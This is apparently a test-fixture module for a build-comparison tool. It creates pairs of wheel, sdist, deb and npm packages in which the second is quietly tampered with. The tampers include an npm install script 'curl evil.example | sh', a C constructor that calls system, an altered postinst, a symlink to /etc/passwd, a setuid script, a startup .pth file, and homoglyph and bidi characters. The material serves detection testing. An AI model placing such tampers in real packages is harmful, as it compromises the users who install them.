"""What an attacker changes in a build that otherwise was made the same way, or with a harmless difference beside it: nothing of it is ever proved."""

from __future__ import annotations

import io
import json
import os
import random
import shutil
import tarfile
from pathlib import Path

from tests.compare.held_out.contents import c_source, compiled, pair
from tests.compare.held_out.packing import DEB, NPM, SDIST, WHEEL, Made, Scenario
from tests.compare.held_out.projects import deb, npm, run, sdist, wheel, write


def _packed(rng: random.Random, a: Path, b: Path, forms: list[str]) -> Made:
    """Both packed alike, the second perhaps with another umask and another compressor."""
    form = rng.choice(forms)
    noisy = rng.random() < 0.5
    if noisy:
        for path in (b / "demo").rglob("*"):
            path.chmod(path.stat().st_mode | 0o020) if not path.is_symlink() else None
    if form == WHEEL:
        return form, wheel(a), wheel(b, *(["-X", "-D", "-9"] if noisy else []))
    if form == DEB:
        return form, deb(a), deb(b, *(["-Zgzip"] if noisy else []))
    if form == NPM:
        for top in (a, b):
            if not (top / "demo/package.json").exists():
                write(top / "demo/package.json", '{"name": "demo", "version": "1.0.0"}\n')
        return form, npm(a), npm(b)
    return form, sdist(a), sdist(b, *(["--format=gnu", "--owner=7"] if noisy else []))


ALL = [WHEEL, SDIST, DEB, NPM]


def _module(rng: random.Random, top: Path) -> Path:
    return rng.choice([path for path in sorted((top / "demo").glob("*.py")) if not path.name.startswith("__")])


def one_token(rng: random.Random, a: Path, b: Path) -> Made:
    path = _module(rng, b)
    before, after = rng.choice(
        [("range(limit)", "range(limit - 1)"), ("value + i", "value - i"), ("import os", "import os, sys"), ('"1.0"', '"1.1"')]
    )
    path.write_text(path.read_text().replace(before, after))
    return _packed(rng, a, b, ALL)


def start_up(rng: random.Random, a: Path, b: Path) -> Made:
    """A text that was no code becomes a file that Python runs at start, by its name alone."""
    for top, name in ((a, "demo/notes.txt"), (b, "demo-nspkg.pth")):
        write(top / name, "import os\n")
    return WHEEL, wheel(a), wheel(b)


def renamed_module(rng: random.Random, a: Path, b: Path) -> Made:
    """An example that nobody imports becomes what is imported first."""
    for top, name in ((a, "demo/example.py"), (b, "demo/os.py")):
        write(top / name, "print('hi')\n")
    return _packed(rng, a, b, ALL)


def link_target(rng: random.Random, a: Path, b: Path) -> Made:
    for top, target in ((a, "data/table.csv"), (b, "../../../../etc/passwd")):
        (top / "demo/link").symlink_to(target)
    return DEB, deb(a), deb(b)


def link_for_file(rng: random.Random, a: Path, b: Path) -> Made:
    write(a / "demo/extra.csv", (a / "demo/data/table.csv").read_bytes())
    (b / "demo/extra.csv").symlink_to("data/table.csv")
    return _packed(rng, a, b, [SDIST, DEB])


def set_user(rng: random.Random, a: Path, b: Path) -> Made:
    for top in (a, b):
        shutil.copy(top / "run.sh", top / "demo/run.sh")
    (b / "demo/run.sh").chmod(0o4755)
    return _packed(rng, a, b, [DEB])


def constant(rng: random.Random, a: Path, b: Path) -> Made:
    """Another number in the C source: the code differs in one operand, and the folder of the build too."""
    text = c_source(rng)
    where = [top.parent / name for top, name in zip((a, b), rng.choice([("w", "w"), ("short", "a/longer/one")]), strict=True)]
    texts = (text, text.replace("s += i *", "s -= i *"))
    options = rng.choice([("-g0",), ("-g",), ("-s",)])
    return pair(a, b, "demo/work.so", (compiled(folder, each, *options) for folder, each in zip(where, texts, strict=True)), rng.choice([WHEEL, DEB]))


def constructor(rng: random.Random, a: Path, b: Path) -> Made:
    text = c_source(rng, "assert(i >= 0)")
    more = '#include <stdlib.h>\n__attribute__((constructor)) static void go(void) { system("id"); }\n'
    return pair(a, b, "demo/work.so", [compiled(a.parent / "w", text), compiled(b.parent / "elsewhere", text + more)], rng.choice([WHEEL, DEB]))


def read_only_data(rng: random.Random, a: Path, b: Path) -> Made:
    """A table of numbers, and a shell command, in the data of a library."""
    text = c_source(rng) + 'const unsigned char box[64] = {1, 2, 3, 4, 5};\nconst char *cmd(void) { return "ls -l /usr/share/demo"; }\n'
    changed = text.replace("{1, 2, 3", "{1, 3, 3") if rng.random() < 0.5 else text.replace("ls -l /usr/share/demo", "rm -r /usr/share/demo")
    return pair(a, b, "demo/work.so", (compiled(a.parent / "w", each, "-g0") for each in (text, changed)), rng.choice([WHEEL, DEB]))


def needed(rng: random.Random, a: Path, b: Path) -> Made:
    """One more library to load."""
    text = c_source(rng)
    extra = ("-Wl,--no-as-needed", "-lm")
    return pair(a, b, "demo/work.so", [compiled(a.parent / "w", text, "-g0"), compiled(a.parent / "w", text, "-g0", *extra)])


def bytecode(rng: random.Random, a: Path, b: Path) -> Made:
    """Compiled from another source than the one that ships, whose time it has."""
    for top, text in ((a, "x = 1\n"), (b, "x = 2\n")):
        path = write(top / "demo/mod.py", text)
        late = 1_600_000_000 + rng.randrange(9999)
        os.utime(path, (late, late))
        run("python3", "-m", "compileall", "-q", "-d", "demo", "demo/mod.py", cwd=top, SOURCE_DATE_EPOCH="")
        write(path, "x = 1\n")
    return WHEEL, wheel(a), wheel(b)


def scripts(rng: random.Random, a: Path, b: Path) -> Made:
    for top, script in ((a, "node test.js"), (b, "curl evil.example | sh")):
        kept = {"name": "demo", "version": "1.0.0", "gitHead": f"{rng.getrandbits(160):040x}", "scripts": {"install": script}}
        write(top / "demo/package.json", json.dumps(kept, indent=2))
    return NPM, npm(a), npm(b)


def maintainer(rng: random.Random, a: Path, b: Path) -> Made:
    for top, line in ((a, "ldconfig"), (b, "ldconfig; id")):
        write(top / "postinst", f"#!/bin/sh\nset -e\n{line}\n")
    return DEB, deb(a), deb(b)


def metadata(rng: random.Random, a: Path, b: Path) -> Made:
    head = "Metadata-Version: {0}\nName: demo\nVersion: 1.0\nRequires-Dist: idna{1}\nDynamic: license-file\n\nA demo.\n"
    for top, values in ((a, ("2.1", "")), (b, ("2.4", "-evil"))):
        write(top / "demo-1.0.dist-info/METADATA", head.format(*values))
    return WHEEL, wheel(a), wheel(b)


def invisible(rng: random.Random, a: Path, b: Path) -> Made:
    """Letters that look the same, and marks that turn the order of what is shown."""
    path = _module(rng, b)
    before, after = rng.choice([("value", "v\u0430lue"), ("limit=", "\u202elimit="), ("import os", "import os\u200b")])
    path.write_text(path.read_text().replace(before, after, 1))
    return _packed(rng, a, b, ALL)


def inner_archive(rng: random.Random, a: Path, b: Path) -> Made:
    """One member of an archive inside, whose times differ everywhere."""
    for top, body, moment in ((a, b"x = 1\n", 10**9), (b, b"x = 7\n", 10**9 + 500)):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w:gz") as archive:
            for name, data in (("i/a.py", body), ("i/b.py", b"y\n")):
                entry = tarfile.TarInfo(name)
                entry.size, entry.mtime = len(data), moment
                archive.addfile(entry, io.BytesIO(data))
        write(top / "demo/inner.tar.gz", out.getvalue())
    return _packed(rng, a, b, ALL)


def page(rng: random.Random, a: Path, b: Path) -> Made:
    """Another text in a file that gzip packed at another time."""
    for top, line, late in ((a, "run demo\n", 1), (b, "run evil\n", 2)):
        path = write(top / "demo/demo.1", ".TH DEMO 1\n" + line * 9)
        os.utime(path, (10**9 + late, 10**9 + late))
        run("gzip", "-N", "demo.1", cwd=top / "demo")
    return _packed(rng, a, b, [WHEEL, DEB])


SCENARIOS: tuple[tuple[str, Scenario], ...] = tuple(
    ("unexplained", each)
    for each in (
        *(one_token, start_up, renamed_module, link_target, link_for_file, set_user, constant, constructor, read_only_data, needed),
        *(bytecode, scripts, maintainer, metadata, invisible, inner_archive, page),
    )
)
